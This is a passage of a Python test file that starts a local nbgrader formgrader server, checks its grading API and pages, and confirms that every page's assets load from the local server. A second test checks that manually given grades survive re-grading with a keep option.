    env["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]])
    log_file = tmp_path / "log"
    with log_file.open("wb") as log:
        server = subprocess.Popen(command, cwd=directory, env=env, stdout=log, stderr=subprocess.STDOUT)
    try:
        assignments = json.loads(fetch(port, "/formgrader/api/assignments", server, log_file))
        listed = next(one for one in assignments if one["name"] == ASSIGNMENT)
        assert listed["max_score"] == 100
        assert listed["num_submissions"] == len(read_marks(directory))
        page = fetch(port, "/formgrader/gradebook", server, log_file)
        assert "nbgrader" in page
        submissions = json.loads(fetch(port, f"/formgrader/api/submissions/{ASSIGNMENT}", server, log_file))
        assert {one["student"]: one["code_score"] for one in submissions}["wrong_no_bias"] == 75
        # and one of them opens, with the answer that a person is to read and the points to give
        notebooks = json.loads(
            fetch(port, f"/formgrader/api/submitted_notebooks/{ASSIGNMENT}/neurons", server, log_file)
        )
        one = next(notebook for notebook in notebooks if notebook["student"] == MASTERS_ANSWER)
        page = fetch(port, f"/formgrader/submissions/{one['id']}/", server, log_file)
        assert "The case 00 must stay silent" in page
        # every page gets all it loads from this server, which has it
        places = ["", f"/{ASSIGNMENT}", f"/{ASSIGNMENT}/neurons"]
        pages = [f"gradebook{place}" for place in places] + [f"submissions/{one['id']}/", "manage_assignments"]
        pages += ["manage_students", f"manage_students/{MASTERS_ANSWER}", f"manage_submissions/{ASSIGNMENT}"]
        wanted = {name: loaded_by(fetch(port, f"/formgrader/{name}", server, log_file)) for name in pages}
        assert all(wanted.values())
        assert not [address for found in wanted.values() for address in found if "//" in address]
        assert "/files/feedback/mathjax/tex-svg.js" in wanted[f"submissions/{one['id']}/"]
        for address in {address for found in wanted.values() for address in found} | {
            "/files/feedback/mathjax/ui/safe.js"
        }:
            assert fetch(port, address, server, log_file), address
    finally:
        server.terminate()
        server.wait(30)


def loaded_by(page: str) -> set[str]:
    """The addresses that a browser asks for to show a page."""
    tags = BeautifulSoup(page, "html.parser").select("script[src], link[href], img[src], iframe[src]")
    return {tag.get("src") or tag.get("href") for tag in tags} - {""}


def fetch(port: int, address: str, server: subprocess.Popen, log: Path) -> str:
    request = urllib.request.Request(f"http://127.0.0.1:{port}{address}", headers={"Authorization": "token a-token"})
    until = time.monotonic() + 60
    while True:
        try:
            with urllib.request.urlopen(request, timeout=30) as answer:
                return answer.read().decode()
        except (ConnectionError, urllib.error.URLError) as error:
            ended = server.poll() is not None or time.monotonic() > until
            if isinstance(error, urllib.error.HTTPError) or ended:
                raise AssertionError(f"{error}\n{log.read_text(errors='replace')}") from error
            time.sleep(0.3)


@pytest.mark.slow
def test_the_demo_goes_on_where_it_was(demo, tmp_path):
    """With --keep nothing is graded twice, and points given by hand stay."""
    directory = Path(shutil.copytree(demo[0], tmp_path / "demo"))
    with gradebook(directory) as book:
        grade = book.find_grade("why_not_xor", "neurons", ASSIGNMENT, MASTERS_ANSWER)
        grade.manual_score, grade.needs_manual_grade = 7, False
        book.db.commit()
    said = grading("demo", "--class", directory, "--keep").stdout
    assert not [line for line in said.splitlines() if line.startswith("Grading")]  # no bar of progress
    assert read_marks(directory)[MASTERS_ANSWER]["total"] == "97"
